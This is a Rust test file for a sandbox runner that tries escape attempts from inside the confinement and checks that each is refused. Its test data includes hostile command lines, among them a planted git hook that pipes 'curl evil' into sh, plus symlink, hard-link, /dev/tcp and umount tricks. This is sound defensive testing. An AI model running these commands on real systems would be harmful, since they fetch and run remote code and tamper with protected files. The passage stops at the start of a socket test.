//! Escape attempts against a real sandbox: every test starts `cordon-runner`
//! under a confining policy through the client library, runs one attack as a
//! command inside it (small `sh` scripts, or `python3` for what a shell
//! cannot do: sockets, ptrace through ctypes, ioctls, raw system calls), and
//! checks both sides: the command was refused (its exit status and output
//! show the error), and — looking from the test process, outside the
//! sandbox — nothing changed.
//!
//! A few positive controls show that what must work still works (writing the
//! workspace and the temp dir, reading the system, the network when it is
//! on), so that a refusal above is the sandbox's doing and not a broken
//! setup.
//!
//! Every test is bounded: the whole test by [`bounded`], each command by a
//! timeout that kills its tree. A test that needs a kernel feature this
//! machine lacks says so on stderr (`SKIPPED …`) and returns. An attack that
//! succeeds is a hole in the sandbox: its test stays as it is, marked
//! `#[ignore = "HOLE: …"]` with what was observed, until the sandbox closes
//! it.
#![cfg(unix)]

mod common;

use std::collections::BTreeMap;
use std::fs;
use std::io::{ErrorKind, Read};
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::os::unix::net::{UnixDatagram, UnixListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command as StdCommand, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use common::*;
use cordon::{Command, Event, LaunchOptions, Limits, Output, Policy, PolicyBuilder, Preset, Sandbox, Size};
use cordon_ipc::{LayerState, TOKEN_ENV};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

/// Every command is killed, with its whole tree, after this long.
const COMMAND_TIMEOUT: Duration = Duration::from_secs(20);

/// How refusals read, in `sh` messages and in Python's `OSError`s (which
/// carry the same `strerror` text).
const EPERM: &str = "Operation not permitted";
const EACCES: &str = "Permission denied";
const EROFS: &str = "Read-only file system";
const EXDEV: &str = "Invalid cross-device link";
const EBUSY: &str = "Device or resource busy";
const ECONNREFUSED: &str = "Connection refused";
/// How an outside process looks from inside the sandbox's PID namespace:
/// absent.
const ESRCH: &str = "No such process";
const ENOENT: &str = "No such file or directory";

/// The runner as the commands see it: the init of their PID namespace.
const RUNNER_INSIDE: u32 = 1;

/// Held by each fork and memory bomb while it runs: thousands of processes
/// or gigabytes in one sandbox starve another bomb's sandbox of what its
/// own limit should be the first to refuse, and the machine of the rest.
static BOMBS: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// What an attack script prints when the attack worked.
const ESCAPED: &str = "ESCAPED";

/// A Python prelude for raw libc calls: `check(rc)` turns a failed call
/// into the `OSError` Python would raise itself.
const LIBC: &str = "
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def check(rc):
    if rc == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return rc
";

// ---------------------------------------------------------------------------
// Fixtures and helpers
// ---------------------------------------------------------------------------

/// A scratch tree: `workspace/` (the commands' working directory, writable
/// under workspace-write) and `tmp/` (their `TMPDIR`, writable too) in a
/// directory under `/tmp`, as `cordon run` makes its temp dir; and
/// `outside/` (neither), which holds `keep.txt`. The sandbox has a `/tmp`
/// of its own, where of the host's only its writable roots exist: so that
/// `outside/` is there to be attacked, it lies elsewhere (see
/// [`host_scratch`]).
struct Dirs {
    _root: tempfile::TempDir,
    _outside_root: tempfile::TempDir,
    base: PathBuf,
    workspace: PathBuf,
    tmp: PathBuf,
    outside: PathBuf,
}

impl Dirs {
    fn new() -> Dirs {
        let root = tempfile::tempdir_in("/tmp").unwrap();
        let base = root.path().canonicalize().unwrap();
        let [workspace, tmp] = ["workspace", "tmp"].map(|name| base.join(name));
        let outside_root = host_scratch();
        let outside = outside_root.path().canonicalize().unwrap().join("outside");
        for dir in [&workspace, &tmp, &outside] {
            fs::create_dir(dir).unwrap();
        }
        fs::write(outside.join("keep.txt"), "original\n").unwrap();
        fs::set_permissions(outside.join("keep.txt"), fs::Permissions::from_mode(0o644)).unwrap();
        Dirs { _root: root, _outside_root: outside_root, base, workspace, tmp, outside }
    }

    /// `outside/` as a path relative to the workspace (`../../…`).
    fn outside_from_workspace(&self) -> PathBuf {
        let up = self.workspace.components().count() - 1;
        let mut path: PathBuf = std::iter::repeat_n("..", up).collect();
        path.push(self.outside.strip_prefix("/").unwrap());
        path
    }

    /// workspace-write around the workspace and the temp dir.
    fn workspace_write(&self) -> PolicyBuilder {
        PolicyBuilder::new(Preset::WorkspaceWrite).cwd(&self.workspace).temp_dir(&self.tmp)
    }

    fn policy(&self) -> Policy {
        self.workspace_write().build().unwrap()
    }

    /// `program` in the workspace, with `$WS`, `$OUT`, `$OUT_REL` (`$OUT`
    /// relative to the workspace) and `$TMPDIR` set and the command timeout.
    fn command(&self, program: &str) -> Command {
        Command::new(program)
            .cwd(&self.workspace)
            .env("WS", path_str(&self.workspace))
            .env("OUT", path_str(&self.outside))
            .env("OUT_REL", path_str(&self.outside_from_workspace()))
            .env("TMPDIR", path_str(&self.tmp))
            .timeout(COMMAND_TIMEOUT)
    }

    fn sh(&self, script: &str) -> Command {
        self.command("sh").arg("-c").arg(script)
    }

    /// `python3 -c` with `code` (indentation as written in Rust removed).
    fn python(&self, code: &str) -> Command {
        self.command("python3").arg("-c").arg(dedent(code))
    }

    /// Python with the [`LIBC`] prelude.
    fn python_libc(&self, code: &str) -> Command {
        self.command("python3").arg("-c").arg(format!("{}\n{}", dedent(LIBC), dedent(code)))
    }
}

fn path_str(path: &Path) -> &str {
    path.to_str().expect("test paths are UTF-8")
}

/// Removes the indentation common to every non-blank line.
fn dedent(code: &str) -> String {
    let indent = code
        .lines()
        .filter(|line| !line.trim().is_empty())
        .map(|line| line.len() - line.trim_start().len())
        .min()
        .unwrap_or(0);
    code.lines().map(|line| line.get(indent..).unwrap_or("").trim_end()).collect::<Vec<_>>().join("\n")
}

/// Launches a runner under `policy`. Returns `None`, after saying why on
/// stderr, when this machine cannot put the whole sandbox in force (no
/// Landlock, no seccomp, a layer reported partial or unavailable); a launch
/// that fails on a machine that has everything is a test failure.
async fn confined(test: &str, policy: Policy) -> Option<Sandbox> {
    match Sandbox::launch(LaunchOptions::new(policy).runner(RUNNER)).await {
        Ok(sandbox) => {
            let gaps: Vec<String> = sandbox
                .info()
                .sandbox
                .layers
                .iter()
                .filter(|layer| !matches!(layer.state, LayerState::Active | LayerState::NotRequested))
                .map(|layer| format!("{} {:?}: {}", layer.name, layer.state, layer.detail))
                .collect();
            if gaps.is_empty() {
                return Some(sandbox);
            }
            eprintln!("SKIPPED {test}: this machine cannot enforce the whole sandbox: {gaps:#?}");
            None
        }
        Err(err) => {
            let missing: Vec<String> = cordon_sandbox::probe()
                .into_iter()
                .filter(|probe| ["landlock", "seccomp"].contains(&probe.name.as_str()) && !probe.available)
                .map(|probe| format!("{}: {}", probe.name, probe.detail))
                .collect();
            if missing.is_empty() {
                panic!(
                    "{test}: the sandbox did not launch although this machine has Landlock and seccomp: {err}"
                );
            }
            eprintln!("SKIPPED {test}: the sandbox cannot launch here ({err}); missing: {missing:?}");
            None
        }
    }
}

/// The layer named `name`'s detail, if it is in force.
fn layer_detail<'a>(sandbox: &'a Sandbox, name: &str) -> Option<&'a str> {
    sandbox
        .info()
        .sandbox
        .layers
        .iter()
        .find(|layer| layer.name == name && layer.state == LayerState::Active)
        .map(|layer| layer.detail.as_str())
}

/// The runner's pid on the host: the one child of the supervisor the
/// launcher started, which stays outside the PID namespace.
fn runner_on_host(sandbox: &Sandbox) -> u32 {
    let supervisor = sandbox.info().pid;
    let children = fs::read_to_string(format!("/proc/{supervisor}/task/{supervisor}/children")).unwrap();
    let children: Vec<u32> = children.split_whitespace().map(|pid| pid.parse().unwrap()).collect();
    assert_eq!(children.len(), 1, "the supervisor {supervisor} has one child, the runner: {children:?}");
    children[0]
}

/// The host's pid of the process that is `inside` in its PID namespace,
/// among `candidates` (from `/proc/PID/status`, whose `NSpid` line ends
/// with the pid in the innermost namespace).
fn host_pid_of(inside: u32, candidates: &[u32]) -> Option<u32> {
    candidates.iter().copied().find(|pid| {
        fs::read_to_string(format!("/proc/{pid}/status")).is_ok_and(|status| {
            status
                .lines()
                .find_map(|line| line.strip_prefix("NSpid:"))
                .and_then(|pids| pids.split_whitespace().last())
                .is_some_and(|last| last == inside.to_string())
        })
    })
}

/// stdout then stderr, as text.
fn text(out: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

/// The command ran to its end (no timeout), failed, printed one of
/// `errors` (compared case-insensitively: util-linux writes "permission
/// denied"), and never printed [`ESCAPED`]. Returns its output.
#[track_caller]
fn assert_refused(out: &Output, errors: &[&str]) -> String {
    // Outside the writable roots every mount is read-only: a write the
    // mount refuses before Landlock sees it is refused all the same.
    let errors: Vec<&str> = errors.iter().copied().chain(errors.contains(&EACCES).then_some(EROFS)).collect();
    let text = text(out);
    assert!(!out.status.timed_out, "the command timed out instead of being refused:\n{text}");
    assert!(!text.contains(ESCAPED), "the attack succeeded:\n{text}");
    assert!(!out.status.success(), "the attack succeeded (exit status 0):\n{text}");
    let lower = text.to_lowercase();
    assert!(
        errors.iter().any(|error| lower.contains(&error.to_lowercase())),
        "refused, but without any of {errors:?} ({:?}):\n{text}",
        out.status
    );
    text
}

/// The command succeeded; returns its output.
#[track_caller]
fn assert_ok(out: &Output) -> String {
    let text = text(out);
    assert!(out.status.success(), "expected success, got {:?}:\n{text}", out.status);
    text
}

/// A tree as seen without following links: for each entry, its type,
/// content (files) or target (links), mode, owner, link count, and times of
/// change. Any write, create, delete, rename, link, chmod, chown, utime or
/// xattr change beneath `dir` changes it.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, String> {
    fn walk(root: &Path, dir: &Path, into: &mut BTreeMap<PathBuf, String>) {
        let mut entries: Vec<PathBuf> = fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
        entries.sort();
        for path in entries {
            let meta = fs::symlink_metadata(&path).unwrap();
            let kind = meta.file_type();
            let what = if kind.is_symlink() {
                format!("link -> {}", fs::read_link(&path).unwrap().display())
            } else if kind.is_file() {
                format!("file {:?}", String::from_utf8_lossy(&fs::read(&path).unwrap()))
            } else if kind.is_dir() {
                "dir".to_string()
            } else {
                "other".to_string()
            };
            let stamp = format!(
                "{what} mode {:o} owner {}:{} links {} mtime {}.{} ctime {}.{}",
                meta.mode(),
                meta.uid(),
                meta.gid(),
                meta.nlink(),
                meta.mtime(),
                meta.mtime_nsec(),
                meta.ctime(),
                meta.ctime_nsec()
            );
            into.insert(path.strip_prefix(root).unwrap().to_path_buf(), stamp);
            if kind.is_dir() {
                walk(root, &path, into);
            }
        }
    }
    let mut tree = BTreeMap::new();
    walk(dir, dir, &mut tree);
    tree
}

#[track_caller]
fn assert_unchanged(dir: &Path, before: &BTreeMap<PathBuf, String>) {
    let after = snapshot(dir);
    if &after != before {
        let changed: Vec<String> = before
            .keys()
            .chain(after.keys())
            .collect::<std::collections::BTreeSet<_>>()
            .into_iter()
            .filter(|path| before.get(*path) != after.get(*path))
            .map(|path| format!("{}: {:?} -> {:?}", path.display(), before.get(path), after.get(path)))
            .collect();
        panic!("{} changed from inside the sandbox:\n{}", dir.display(), changed.join("\n"));
    }
}

/// A process the test started outside the sandbox, killed and reaped
/// whatever happens to the test.
struct Victim(Child);

impl Victim {
    fn sleep() -> Victim {
        Victim(StdCommand::new("sleep").arg("60").stdin(Stdio::null()).spawn().unwrap())
    }

    fn pid(&self) -> u32 {
        self.0.id()
    }

    /// Running, and not stopped.
    fn is_running(&mut self) -> bool {
        if self.0.try_wait().unwrap().is_some() {
            return false;
        }
        let stat = fs::read_to_string(format!("/proc/{}/stat", self.pid())).unwrap();
        let state = stat[stat.rfind(')').unwrap() + 1..].split_whitespace().next().unwrap().to_string();
        state == "S" || state == "R"
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A process found inside the sandbox that the test must not leave behind:
/// killed on drop if it still runs. It is known by its pid and start time,
/// so a recycled pid is never killed.
struct Reap {
    pid: u32,
    started: Option<u64>,
}

impl Reap {
    fn new(pid: u32) -> Reap {
        Reap { pid, started: start_time(pid) }
    }
}

impl Drop for Reap {
    fn drop(&mut self) {
        if self.started.is_some() && start_time(self.pid) == self.started && !is_gone(self.pid) {
            let _ = kill(Pid::from_raw(self.pid as i32), Signal::SIGKILL);
        }
    }
}

/// A process's start time (field 22 of `/proc/PID/stat`), in clock ticks.
fn start_time(pid: u32) -> Option<u64> {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat[stat.rfind(')')? + 1..].split_whitespace().nth(19)?.parse().ok()
}

/// Whether a non-blocking listener has a connection waiting.
fn tcp_accepts(listener: &TcpListener) -> Option<std::net::SocketAddr> {
    listener.set_nonblocking(true).unwrap();
    match listener.accept() {
        Ok((_, peer)) => Some(peer),
        Err(err) if err.kind() == ErrorKind::WouldBlock => None,
        Err(err) => panic!("accept: {err}"),
    }
}

fn unix_accepts(listener: &UnixListener) -> bool {
    listener.set_nonblocking(true).unwrap();
    match listener.accept() {
        Ok(_) => true,
        Err(err) if err.kind() == ErrorKind::WouldBlock => false,
        Err(err) => panic!("accept: {err}"),
    }
}

fn mountinfo(pid: u32) -> String {
    fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap()
}

/// Whether `path` is a mount point in `mountinfo` (field 5).
fn is_mount_point(mountinfo: &str, path: &Path) -> bool {
    mountinfo.lines().any(|line| line.split(' ').nth(4) == Some(path_str(path)))
}

// ---------------------------------------------------------------------------
// Writing outside the writable roots
// ---------------------------------------------------------------------------

#[tokio::test]
async fn write_outside_the_workspace_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) = confined("write_outside_the_workspace_is_refused", dirs.policy()).await else {
            return;
        };
        for script in [
            "echo pwned > \"$OUT/absolute.txt\"",
            "echo pwned >> \"$OUT/keep.txt\"",
            "mkdir \"$OUT/newdir\"",
            "rm \"$OUT/keep.txt\"",
            "truncate -s 0 \"$OUT/keep.txt\"",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EACCES]);
        }
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

#[tokio::test]
async fn write_through_dot_dot_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) = confined("write_through_dot_dot_is_refused", dirs.policy()).await else { return };
        for script in [
            "echo pwned > \"$OUT_REL/dotdot.txt\"",
            "mkdir -p sub && echo pwned > \"./sub/../$OUT_REL/dotdot.txt\"",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EACCES]);
        }
        assert_unchanged(&dirs.outside, &before);
        // Beside the workspace, under /tmp, is the sandbox's own /tmp: what
        // lands there never reaches the host's directory.
        for script in ["echo pwned > ../dotdot.txt", "cd .. && echo pwned > dotdot2.txt"] {
            sandbox.run(dirs.sh(script)).await.unwrap();
        }
        for name in ["dotdot.txt", "dotdot2.txt"] {
            assert!(!dirs.base.join(name).exists(), "{name} written beside the workspace");
        }
    })
    .await
}

#[tokio::test]
async fn write_through_a_symlink_made_inside_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) = confined("write_through_a_symlink_made_inside_is_refused", dirs.policy()).await
        else {
            return;
        };
        // Making the links is allowed (they live in the workspace); writing
        // through them is not.
        let out = sandbox
            .run(dirs.sh("ln -s \"$OUT\" dir-link && ln -s \"$OUT/keep.txt\" file-link"))
            .await
            .unwrap();
        assert_ok(&out);
        assert_eq!(fs::read_link(dirs.workspace.join("dir-link")).unwrap(), dirs.outside);
        for script in
            ["echo pwned > dir-link/via-link.txt", "echo pwned >> file-link", "mkdir dir-link/newdir"]
        {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EACCES]);
        }
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

#[tokio::test]
async fn write_through_a_planted_symlink_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        symlink(&dirs.outside, dirs.workspace.join("planted-dir")).unwrap();
        symlink(dirs.outside.join("keep.txt"), dirs.workspace.join("planted-file")).unwrap();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) = confined("write_through_a_planted_symlink_is_refused", dirs.policy()).await
        else {
            return;
        };
        for script in [
            "echo pwned > planted-dir/via-planted.txt",
            "echo pwned >> planted-file",
            "cp /etc/hostname planted-dir/",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EACCES]);
        }
        // Reading through them is fine: everything is readable.
        let out = sandbox.run(dirs.sh("cat planted-file")).await.unwrap();
        assert_eq!(assert_ok(&out), "original\n");
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

#[tokio::test]
async fn write_through_a_symlink_swapped_after_launch_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        fs::create_dir(dirs.workspace.join("ok")).unwrap();
        let link = dirs.workspace.join("link");
        symlink(dirs.workspace.join("ok"), &link).unwrap();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) =
            confined("write_through_a_symlink_swapped_after_launch_is_refused", dirs.policy()).await
        else {
            return;
        };
        // While it points into the workspace, writing through it works.
        let out = sandbox.run(dirs.sh("echo fine > link/first.txt")).await.unwrap();
        assert_ok(&out);
        assert_eq!(fs::read_to_string(dirs.workspace.join("ok/first.txt")).unwrap(), "fine\n");
        // Swapped, from outside, for one that points out.
        fs::remove_file(&link).unwrap();
        symlink(&dirs.outside, &link).unwrap();
        let out = sandbox.run(dirs.sh("echo pwned > link/swapped.txt")).await.unwrap();
        assert_refused(&out, &[EACCES]);
        let out = sandbox.run(dirs.sh("echo pwned >> link/keep.txt")).await.unwrap();
        assert_refused(&out, &[EACCES]);
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

#[tokio::test]
async fn hard_link_to_an_outside_file_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) = confined("hard_link_to_an_outside_file_is_refused", dirs.policy()).await else {
            return;
        };
        // A link in the workspace would make the outside file writable
        // under a workspace name. Whether the link itself is refused or only
        // writing through it, the outside file must not change.
        let out = sandbox.run(dirs.sh("ln \"$OUT/keep.txt\" hard && echo pwned >> hard")).await.unwrap();
        assert_refused(&out, &[EXDEV, EACCES, EPERM]);
        let link = "import os; os.link(os.environ['OUT'] + '/keep.txt', 'hard2')";
        let out = sandbox.run(dirs.python(link)).await.unwrap();
        assert_refused(&out, &[EXDEV, EACCES, EPERM]);
        assert!(!dirs.workspace.join("hard2").exists());
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

#[tokio::test]
async fn rename_of_a_workspace_file_to_outside_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        fs::write(dirs.workspace.join("moveme.txt"), "mine\n").unwrap();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) = confined("rename_of_a_workspace_file_to_outside_is_refused", dirs.policy()).await
        else {
            return;
        };
        // mv falls back to copy and delete when rename(2) is refused; both
        // ways must fail.
        let out = sandbox.run(dirs.sh("mv moveme.txt \"$OUT/moved.txt\"")).await.unwrap();
        assert_refused(&out, &[EACCES, EXDEV]);
        let out = sandbox
            .run(dirs.python("import os; os.rename('moveme.txt', os.environ['OUT'] + '/moved.txt')"))
            .await
            .unwrap();
        assert_refused(&out, &[EXDEV, EACCES]);
        assert_eq!(fs::read_to_string(dirs.workspace.join("moveme.txt")).unwrap(), "mine\n");
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

#[tokio::test]
async fn rename_of_an_outside_file_into_the_workspace_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) =
            confined("rename_of_an_outside_file_into_the_workspace_is_refused", dirs.policy()).await
        else {
            return;
        };
        let out = sandbox
            .run(dirs.python("import os; os.rename(os.environ['OUT'] + '/keep.txt', 'stolen.txt')"))
            .await
            .unwrap();
        assert_refused(&out, &[EXDEV, EACCES]);
        // mv copies (reading is allowed) but cannot remove the original.
        let out = sandbox.run(dirs.sh("mv \"$OUT/keep.txt\" stolen.txt")).await.unwrap();
        assert_refused(&out, &[EACCES]);
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

#[tokio::test]
async fn changing_metadata_outside_the_workspace_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) =
            confined("changing_metadata_outside_the_workspace_is_refused", dirs.policy()).await
        else {
            return;
        };
        let mut escaped = Vec::new();
        for script in [
            "chmod 777 \"$OUT/keep.txt\"",
            "touch -d 2001-01-01 \"$OUT/keep.txt\"",
            "chown \"$(id -u):$(id -g)\" \"$OUT/keep.txt\"",
            "python3 -c 'import os; os.setxattr(os.environ[\"OUT\"] + \"/keep.txt\", \"user.x\", b\"x\")'",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            if out.status.success() {
                escaped.push(script);
            }
        }
        let after = snapshot(&dirs.outside);
        assert!(
            escaped.is_empty() && after == before,
            "metadata changed outside the workspace by {escaped:?}:\nbefore {before:#?}\nafter {after:#?}"
        );
    })
    .await
}

// ---------------------------------------------------------------------------
// Protected and denied paths
// ---------------------------------------------------------------------------

/// A workspace with `.git/config` and `.git/hooks/`, made before the policy
/// is built.
fn git_workspace() -> (Dirs, BTreeMap<PathBuf, String>) {
    let dirs = Dirs::new();
    let git = dirs.workspace.join(".git");
    fs::create_dir_all(git.join("hooks")).unwrap();
    fs::write(git.join("config"), "[core]\n\tbare = false\n").unwrap();
    let before = snapshot(&git);
    (dirs, before)
}

#[tokio::test]
async fn writing_protected_git_paths_is_refused() {
    bounded("test", async {
        let (dirs, before) = git_workspace();
        let git = dirs.workspace.join(".git");
        let Some(sandbox) = confined("writing_protected_git_paths_is_refused", dirs.policy()).await else {
            return;
        };
        for script in [
            "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config",
            "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit",
            "chmod 777 .git/config",
            "rm .git/config",
            "mkdir .git/hooks/new",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EROFS]);
        }
        // The rest of the workspace stays writable.
        let out = sandbox.run(dirs.sh("echo fine > notes.txt")).await.unwrap();
        assert_ok(&out);
        assert_eq!(fs::read_to_string(dirs.workspace.join("notes.txt")).unwrap(), "fine\n");
        assert!(!git.join("hooks/pre-commit").exists());
        assert_unchanged(&git, &before);
    })
    .await
}

#[tokio::test]
async fn protected_git_directory_cannot_be_moved_or_replaced() {
    bounded("test", async {
        let (dirs, before) = git_workspace();
        let git = dirs.workspace.join(".git");
        let Some(sandbox) =
            confined("protected_git_directory_cannot_be_moved_or_replaced", dirs.policy()).await
        else {
            return;
        };
        for script in ["mv .git moved-git", "mkdir sub && mv .git sub/", "rm -rf .git", "rmdir .git/hooks"] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EBUSY, EROFS]);
        }
        assert!(!dirs.workspace.join("moved-git").exists());
        assert_unchanged(&git, &before);
    })
    .await
}

#[tokio::test]
async fn unmounting_a_protected_path_is_refused() {
    bounded("test", async {
        let (dirs, before) = git_workspace();
        let git = dirs.workspace.join(".git");
        let Some(sandbox) = confined("unmounting_a_protected_path_is_refused", dirs.policy()).await else {
            return;
        };
        let runner = sandbox.info().pid;
        assert!(is_mount_point(&mountinfo(runner), &git), "the sandbox protects .git with a mount");
        let out = sandbox.run(dirs.sh("umount .git")).await.unwrap();
        assert_refused(&out, &[EPERM, EACCES, "must be superuser"]);
        let out = sandbox.run(dirs.python_libc("check(libc.umount2(b'.git', 2))")).await.unwrap();
        assert_refused(&out, &[EPERM]);
        assert!(is_mount_point(&mountinfo(runner), &git), "the protection is still mounted");
        let out = sandbox.run(dirs.sh("echo x >> .git/config")).await.unwrap();
        assert_refused(&out, &[EROFS]);
        assert_unchanged(&git, &before);
    })
    .await
}

#[tokio::test]
async fn reading_a_denied_path_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        fs::create_dir(dirs.outside.join("secret")).unwrap();
        fs::write(dirs.outside.join("secret/key"), "top-secret\n").unwrap();
        fs::create_dir(dirs.outside.join("public")).unwrap();
        fs::write(dirs.outside.join("public/readme"), "public\n").unwrap();
        fs::write(dirs.workspace.join("secret.env"), "TOKEN=ws-secret\n").unwrap();
        // Nothing new can be made directly in a directory that holds a
        // denied path (see the Landlock layer); its subdirectories are fine.
        fs::create_dir(dirs.workspace.join("sub")).unwrap();
        let policy = dirs
            .workspace_write()
            .deny(dirs.outside.join("secret"))
            .deny(dirs.workspace.join("secret.env"))
            .build();
        let before = snapshot(&dirs.outside);
        let Some(sandbox) = confined("reading_a_denied_path_is_refused", policy.unwrap()).await else {
            return;
        };
        for script in [
            "cat \"$OUT/secret/key\"",
            "ls \"$OUT/secret\"",
            "cat secret.env",
            "echo TOKEN=replaced > secret.env",
            // Another name for it is no way around.
            "ln -s \"$OUT/secret/key\" sub/alias && cat sub/alias",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            let text = assert_refused(&out, &[EACCES]);
            assert!(!text.contains("top-secret") && !text.contains("ws-secret"), "{script}: {text}");
        }
        // Its siblings are readable, and the workspace writable.
        let out = sandbox.run(dirs.sh("cat \"$OUT/public/readme\"; cat \"$OUT/keep.txt\"")).await.unwrap();
        assert_eq!(assert_ok(&out), "public\noriginal\n");
        let out = sandbox.run(dirs.sh("rm sub/alias && echo fine > sub/notes.txt")).await.unwrap();
        assert_ok(&out);
        assert_eq!(fs::read_to_string(dirs.workspace.join("secret.env")).unwrap(), "TOKEN=ws-secret\n");
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

// ---------------------------------------------------------------------------
// The network
// ---------------------------------------------------------------------------

#[tokio::test]
async fn tcp_connect_to_a_loopback_listener_outside_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port().to_string();
        let Some(sandbox) =
            confined("tcp_connect_to_a_loopback_listener_outside_is_refused", dirs.policy()).await
        else {
            return;
        };
        let code = "
            import os, socket
            s = socket.create_connection(('127.0.0.1', int(os.environ['PORT'])), timeout=5)
            s.sendall(b'hello from the sandbox')
            print('ESCAPED: connected')
        ";
        let out = sandbox.run(dirs.python(code).env("PORT", &port)).await.unwrap();
        assert_refused(&out, &["[Errno 1]", "[Errno 13]"]);
        // A shell's own way, where it has one.
        let out = sandbox
            .run(dirs.command("bash").arg("-c").arg("exec 3<>/dev/tcp/127.0.0.1/$PORT").env("PORT", &port));
        if let Ok(out) = out.await {
            assert_refused(&out, &[EPERM, EACCES]);
        }
        assert_eq!(tcp_accepts(&listener), None, "the listener outside got a connection");
    })
    .await
}

#[tokio::test]
async fn udp_to_a_socket_outside_arrives_nowhere() {
    bounded("test", async {
        let dirs = Dirs::new();
        let receiver = UdpSocket::bind("127.0.0.1:0").unwrap();
        let port = receiver.local_addr().unwrap().port().to_string();
        let Some(sandbox) = confined("udp_to_a_socket_outside_arrives_nowhere", dirs.policy()).await else {
            return;
        };
        let code = "
            import os, socket
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for _ in range(3):
                s.sendto(b'hello from the sandbox', ('127.0.0.1', int(os.environ['PORT'])))
            print('ESCAPED: sent')
        ";
        let out = sandbox.run(dirs.python(code).env("PORT", &port)).await.unwrap();
        assert_refused(&out, &["[Errno 1]", "[Errno 13]"]);
        receiver.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
        let mut buf = [0u8; 64];
        // A signal to the test process (SIGCHLD) interrupts a receive with a
        // timeout; only a datagram or the timeout ends the wait.
        loop {
            match receiver.recv_from(&mut buf) {
                Ok((n, from)) => {
                    panic!("a datagram arrived from {from}: {:?}", String::from_utf8_lossy(&buf[..n]))
                }
                Err(err) if err.kind() == ErrorKind::Interrupted => continue,
                Err(err) => {
                    assert!(matches!(err.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut), "{err}");
                    break;
                }
            }
        }
    })
    .await
}

#[tokio::test]
async fn dns_lookup_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("dns_lookup_is_refused", dirs.policy()).await else { return };
        // A name needs a resolver; the resolver needs an AF_INET socket,
        // which cannot be made. (Names in /etc/hosts still resolve: that is
        // a file, and reachable is what matters.)
        let code = "
            import socket
            try:
                print('RESOLVED example.com:', socket.getaddrinfo('example.com', 80))
            except socket.gaierror as e:
                print('lookup of example.com failed:', e)
            for family in (socket.AF_INET, socket.AF_INET6):
                try:
                    socket.socket(family, socket.SOCK_DGRAM)
                    print('ESCAPED: a socket of family', family)
                except OSError as e:
                    print('socket of family', int(family), 'refused:', e)
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ";
        let out = sandbox.run(dirs.python(code)).await.unwrap();
        let text = assert_refused(&out, &["[Errno 1]", "[Errno 13]"]);
        assert!(text.contains("lookup of example.com failed"), "a DNS name resolved inside:\n{text}");
        assert_eq!(text.matches("refused: [Errno").count(), 2, "{text}");
        let getent = sandbox.run(dirs.sh("getent hosts example.com")).await.unwrap();
        assert!(
            !getent.status.success(),
            "getent resolved a name: {:?}",
            String::from_utf8_lossy(&getent.stdout)
        );
    })
    .await
}

#[tokio::test]
async fn raw_packet_netlink_and_mptcp_sockets_are_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("raw_packet_netlink_and_mptcp_sockets_are_refused", dirs.policy()).await
        else {
            return;
        };
